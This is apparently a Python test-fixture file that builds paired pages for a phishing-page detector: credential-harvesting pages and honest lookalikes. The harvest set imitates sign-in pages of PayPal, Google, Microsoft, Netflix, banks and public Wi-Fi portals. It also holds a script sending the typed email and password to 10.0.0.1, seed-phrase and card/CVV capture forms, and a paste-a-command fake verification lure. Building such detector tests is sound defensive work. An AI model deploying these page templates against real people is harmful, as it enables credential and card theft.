"""Pairs that differ in little: a page that harvests and an honest one with the same parts. Each pair stands for a kind of
page that the check once got wrong."""

from layouts import centred, plain, with_nav

FIELDS = "<input name=mail placeholder='E-mail'><input type=password name=pw placeholder=Password><button>Continue</button>"
KEY = "<input type=password name=pw placeholder=Password><button>Continue</button>"
TRAP = "".join(f"<input type=hidden name={name} value=''>" for name in ("hostname", "mac", "ip", "target"))
ROOMS = "<p>Rooms with a view of the harbour, breakfast until eleven, bicycles to borrow, parking, free Wi-Fi. " + "We look forward to your visit and will gladly help with anything you need. " * 8 + "</p>"
HOTLINKS = "".join(f"<img src='https://assets.brightwell-credit.invalid/{name}.png' alt=''>" for name in ("a", "b", "c", "d", "e"))


def harvest():
    yield "sign-01-file-of-a-logo", with_nav(
        "Sign in", f"<img src='img/google.png' alt=Logo><form method=post>{FIELDS}</form><p>Your session has expired.</p>")
    yield "sign-02-heading-using", centred(
        "Public Wi-Fi", f"<p>Get connected to the Internet for free.</p><h2>Login using Facebook</h2><form>{FIELDS}</form>")
    yield "sign-03-appended-to-address", centred(
        "Connexion", f"<div>{FIELDS}</div><script>function go(){{new Image().alt=0;"
        "load('http://10.0.0.1/?email='+encodeURIComponent(m.value)+'&password='+encodeURIComponent(p.value))}</script>")
    yield "sign-04-lead-french", centred("Page de connexion", f"<p>Se connecter à Twitch</p><form>{FIELDS}</form>", lang="fr")
    yield "sign-05-lead-swedish", centred("Inloggning", f"<p>Logga in på Spotify</p><form>{FIELDS}</form>", lang="sv")
    yield "sign-06-lead-indonesian", centred("Masuk", f"<p>Masuk ke Tokopedia</p><form>{FIELDS}</form>", lang="id")
    yield "sign-07-files-of-its-namesake", with_nav("Brightwell-Credit sign-in", f"{HOTLINKS}<form>{FIELDS}</form>")
    yield "sign-08-payment-line", centred("Welcome", f"<p>Log in to PayPal</p><form>{FIELDS}</form>")
    yield "sign-09-phrase-code", centred(
        "Add wallet", "<form action=data.php method=post><input name=app placeholder='Wallet app name'><input name=code placeholder='12 Phrase-Code'></form>")
    yield "sign-10-box-has-issues", centred(
        "Warning", "<p>Your box has some issues. Please enter your WIFI password to reset.</p><input type=password id=k placeholder='WIFI PASSWORD'>")
    yield "entrance-01-free-wifi", centred("Welcome", f"<p>Sign into Oakhall Free Wifi</p><p>Use your email account to log in</p><form>{FIELDS}</form>")
    yield "entrance-02-only-a-password", centred(
        "Network Access Verification", f"<p>Please verify your credentials to complete scheduled network updates.</p><form action='#'>{KEY}</form>")
    yield "entrance-03-hidden-fields", centred("WLAN", f"<form method=post>{FIELDS}{TRAP}</form>", lang="de")
    yield "entrance-04-trap-path", centred("Welcome", f"<p>Please enter your details</p><form action='/get'>{FIELDS}</form>")
    yield "entrance-05-card-for-wifi", centred(
        "Oakhall District WiFi Hotspot", "<p>One-time fee of 0.50</p><form><input name=card_number placeholder='Card number'><input name=cvv placeholder=CVV></form>")
    yield "site-01-school-logo", centred("Student sign-in", f"<img src='https://www.oakhall.ac.zz/logo.png' alt=Logo><form>{FIELDS}</form>")
    yield "site-02-lost-password", centred(
        "Oakhall staff", f"<form>{FIELDS}</form><a href='https://id.oakhall.invalid/forgot'>Forgot password?</a>")
    yield "sign-11-names-of-fields", centred(
        "Sign in", "<form><input name=loginfmt type=email placeholder='Your account'><input name=passwd type=password></form>")
    yield "sign-12-nothing-but-a-heading", centred("Welcome", f"<h1>Spotify</h1><form>{FIELDS}</form>")
    yield "sign-13-first-step", centred(
        "Sign in", "<h1>Sign in</h1><img src='https://www.netflix.com/l.png' alt=''><form><input name=email placeholder='Email'><button>Sign in</button></form>")
    yield "sign-14-account-portuguese", centred(
        "Login com Google", f"<p>Fazer login</p><p>Use sua Conta do Google</p><form>{FIELDS}</form>", lang="pt")
    yield "command-04-steps-alone", centred(
        "Summaries", "<p>Verifying you are human. Security verification required.</p><ol><li>Press Windows + R</li><li>Paste the command below</li><li>Press Enter</li></ol>")

    yield "wordless-01-all-in-pictures", plain(
        "Sign in", "<img src='i/1.png'><form method=post><input name=e placeholder='E-mail'><input type=password name=p placeholder=Password>"
        "<input type=image src='i/2.png'></form><img src='i/3.png'>")
    yield "wordless-02-details-under-pressure", plain(
        "Update your billing", "<img src='i/1.png'><form><input name=fname><input name=address1><input name=city><input name=zip><input name=phone>"
        "<input type=image src='i/2.png'></form>")
    yield "wordless-03-fields-without-labels", plain(
        "Netflix", "<img src='i/1.png'><form method=post><input name=dc><input name=db placeholder='MM/DD/YYYY'><input type=image src='i/2.png'></form>")
    yield "kit-10-fields-by-number", plain(
        "Sign in", "<img src='i/1.png'><p>Please sign in</p><form method=post><input name=formtext1><input type=password name=formtext2><button>Sign in</button></form>")
    yield "kit-11-issuer-password", centred(
        "Added safety", "<p>Please submit the information to confirm the payment.</p><form><input type=password name=password_vbv><button>Submit</button></form>")
    yield "site-03-many-hosts-of-a-school", centred(
        "Oakhall Login", "".join(f"<a href='https://{name}.oakhall.edu/'>{name}</a> " for name in ("www", "help", "ssologin", "www2", "managelogin")) + f"<form>{FIELDS}</form>")
    yield "site-04-folder-called-after-a-host", centred(
        "Sign in", f"<img src='login_files/www.paypal.com/logo.svg' alt=''><form>{FIELDS}</form>")
    yield "site-05-with-them-you-get", centred(
        "Sign in", f"<img src='https://www.verizon.com/l.png' alt=''><form>{FIELDS}</form><p>With Verizon, you get the convenience of managing everything online.</p>")
    yield "site-06-footer-of-networks", centred(
        "Online login", "<img src='https://www.citizensbank.com/l.png' alt='Citizens Bank'>" + f"<form>{FIELDS}</form>"
        "<div>" + "".join(f"<img src='i/{name}.png' alt='{name}'>" for name in ("Facebook", "Twitter", "LinkedIn", "YouTube")) + "</div>")
    yield "sign-15-hidden-fields-of-a-copy", centred(
        "Sign in", f"<form>{FIELDS}<input type=hidden name=PPFT value=''></form>")
    yield "sign-16-password-called-mail", centred(
        "Microsoftonline", "<form><input type=email name=loginfmt><input type=email name=passwd><button>Next</button></form>")
    yield "card-04-crosses-for-a-number", centred(
        "Société Générale | Connexion", "<p>2. Votre carte crédit</p><form><input name=a placeholder=XXXXXXXXXXXXXXXX><p>4. Cryptogramme visuel</p>"
        "<input name=b placeholder=XXX><button>Activer</button></form>", lang="fr")
    yield "document-04-failed", centred(
        "Document", f"<p>Login failed, please try again. Sign in to view the document.</p><form>{FIELDS}</form>")
    yield "mail-01-verify", centred(
        "Account", "<p>Help us verify your identity.</p><form><input name=mail><input type=password name=emailpass placeholder='Email password'><button>Next</button></form>")


def honest():
    icons = "".join(f"<img src='icons/{name}.png' alt=''>" for name in ("google", "facebook", "github"))
    yield "login_demo-31-row-of-icons", centred("Fernleaf: sign in", f"<form onsubmit='return false'>{FIELDS}</form><p>or</p>{icons}")
    yield "login_demo-32-icon-in-button", centred(
        "Fernleaf: sign in", f"<form onsubmit='return false'>{FIELDS}</form><button><img src='google.png' alt=''> Google</button>")
    yield "login_demo-33-button-with", centred(
        "Fernleaf", f"<h2>Sign in</h2><form>{FIELDS}</form><button>Sign in with Facebook</button>")
    yield "login_demo-34-search-appended", centred(
        "Weather for members", f"<form onsubmit='return false'>{FIELDS}</form><script>fetch('https://weather.example.net/v1?city='+city.value)</script>")
    yield "login_demo-35-stream-link", centred(
        "Connexion", f"<form onsubmit='return false'>{FIELDS}</form><p><a href='https://fernleaf.example/live'>Suivez-nous à Twitch</a></p>", lang="fr")
    yield "login_demo-36-under-a-host", with_nav("forms.github.io – sign-in form for dashboards", f"<form>{FIELDS}</form>")
    yield "login_demo-37-own-cdn", with_nav(
        "Fernleaf sign-in", "".join(f"<img src='https://cdn.jsdelivr.net/{n}.png' alt=''>" for n in "abcde") + f"<form>{FIELDS}</form>")
    yield "payment_demo-31-pay-line", centred(
        "Fernleaf checkout", "<p>Pay with PayPal or card</p><form onsubmit='return false'><input name=card placeholder='Card number'><input name=cvc placeholder=CVC></form>")
    yield "game-31-world-seed", centred("Minecraft seed viewer", "<form><label>Seed <input name=seed></label><button>Show map</button></form>")
    yield "slides-31-support-quotes", plain(
        "Agency", "<blockquote>Good tech support is rare.</blockquote>" * 4 + "<a href='tel:+18005550100'>800 555 0100</a>")
    yield "gallery-31-video", plain("YouTube cover", "<h1>YouTube</h1><iframe src='https://www.youtube-nocookie.com/embed/0'></iframe>")
    yield "login_demo-39-hotel", with_nav("Harbour Inn", f"<h1>Harbour Inn</h1>{ROOMS}<h2>Your bookings</h2><form onsubmit='return false'>{FIELDS}</form>")
    yield "app-31-network-of-a-device", centred(
        "Wi-Fi setup", "<p>Wireless router settings: new firmware installed.</p><form action=save><input name=ssid placeholder=SSID><input type=password name=key placeholder=Password></form>")
    yield "login_demo-40-posts-to-login", centred("Welcome", f"<p>Please enter your details</p><form action='/login' method=post>{FIELDS}</form>")
    yield "login_demo-41-picture-of-space", centred("Stargazers", f"<img src='https://apod.nasa.gov/a.jpg' alt='The Moon'><form onsubmit='return false'>{FIELDS}</form>")
    yield "login_demo-42-own-reset", centred(
        "Oakhall staff", f"<form onsubmit='return false'>{FIELDS}</form><a href='reset.html'>Forgot password?</a> <a href='https://www.oakhall.invalid/privacy'>Privacy</a>")
    yield "settings-31-heading-of-some", centred(
        "Connections", "<h3>Spotify</h3><input name=a placeholder='Playlist'><h3>Backup</h3><input name=b placeholder='Folder'><input name=c placeholder='Host'>"
        "<input name=d placeholder='User'><input type=password name=e placeholder='Password'>")
    yield "landing-31-pin-it", with_nav(
        "Fernway for Figma", "<h1>Fernway</h1><h2>Figma</h2><p>Tweet, share, pin it. Join our newsletter and get news in your inbox every week. We hate spam too.</p>"
        "<form action='https://fernway.us3.list-manage.com/subscribe'><input type=email name=EMAIL><input name=b_ff98 tabindex=-1></form>")
    yield "docs-31-open-terminal", centred(
        "Install", "<p>Open the terminal, paste the command and press Enter. On Windows, open PowerShell first.</p><code>cargo install fernway</code>")
    yield "login_demo-38-share-counter", {
        "index.html": centred("Fernleaf kit", f"<form>{FIELDS}</form><script src=share.js></script>"),
        "share.js": "var share={url:'counter.php',tracking:false};$.ajax({url:'counter.php'})",
    }
    yield "login_demo-51-logo-and-prompts", plain(
        "Fernleaf", f"<img src='fernleaf.png' alt=''><form>{FIELDS}</form>")
    yield "login_demo-52-button-drawn", plain(
        "Fernleaf", "<img src='fernleaf.png' alt=''><h1>Sign in</h1><form><input name=e placeholder='E-mail'><input type=password placeholder=Password><input type=image src='go.png' alt='Sign in'></form>")
    yield "gallery-51-wordless-search", plain("Pins", "<img src='map.png'><input name=q placeholder=Search><img src='pin.png'>")
    yield "form-51-fields-by-number", plain(
        "Contact", "<h1>Contact</h1><form><input name=formtext1 placeholder=Name><input name=formtext2 placeholder='E-mail'><button>Send</button></form>")
    yield "login_demo-53-many-hosts-of-its-own", centred(
        "Fernleaf sign-in", "".join(f"<a href='https://{name}.fernleaf.example/'>{name}</a> " for name in ("www", "docs", "status", "help", "blog")) + f"<form onsubmit='return false'>{FIELDS}</form>")
    yield "docs-51-folder-of-a-library", with_nav(
        "Members", f"<img src='vendor/cdn.jsdelivr.net/logo.svg' alt=''><form onsubmit='return false'>{FIELDS}</form>")
    yield "login_demo-54-with-them", centred(
        "Fernleaf", f"<form onsubmit='return false'>{FIELDS}</form><p>With Verizon and other carriers, messages arrive within a minute of being sent.</p>")
    yield "login_demo-55-hidden-token", centred(
        "Fernleaf", f"<form onsubmit='return false'>{FIELDS}<input type=hidden name=csrf_token value=''></form>")
    yield "payment_demo-51-crosses-for-a-number", centred(
        "Fernleaf checkout", "<p>Card number</p><form onsubmit='return false'><input name=a placeholder='XXXX XXXX XXXX XXXX'><p>Security code</p><input name=b placeholder=XXX><button>Pay</button></form>")
    yield "login_demo-56-wrong-password", centred(
        "Fernleaf", f"<form onsubmit='return false'>{FIELDS}</form><p hidden>Invalid username or password, please try again.</p>")
    yield "login_demo-57-verify-code", centred(
        "Verify your account", "<h2>Verify your account</h2><p>We e-mailed you a six digit code. Enter the code below to confirm your address.</p>" + "<input maxlength=1>" * 6)
    yield "app-51-words-by-script", {
        "index.html": plain("Fernleaf", "<div id=root></div><script src=app.js></script>"),
        "app.js": "document.getElementById('root').innerHTML='<img src=fernleaf.png alt=\"\"><h1>Sign in</h1><p>Welcome back to the garden club.</p><form><input name=email placeholder=E-mail><input type=password name=password><a href=#>Help</a><a href=#>Terms</a><button>Sign in</button></form>'",
    }
    yield "game-51-wordless-board", plain("Netflix and chess", "<img src='board.png'><input name=move><p>Your move</p>")
    yield "login_demo-58-icons-of-networks", centred(
        "Fernleaf", f"<form onsubmit='return false'>{FIELDS}</form><div>" + "".join(
            f"<img src='https://www.{name.lower()}.com/i.png' alt='{name}'>" for name in ("Facebook", "Twitter", "LinkedIn", "GitHub")) + "</div>")
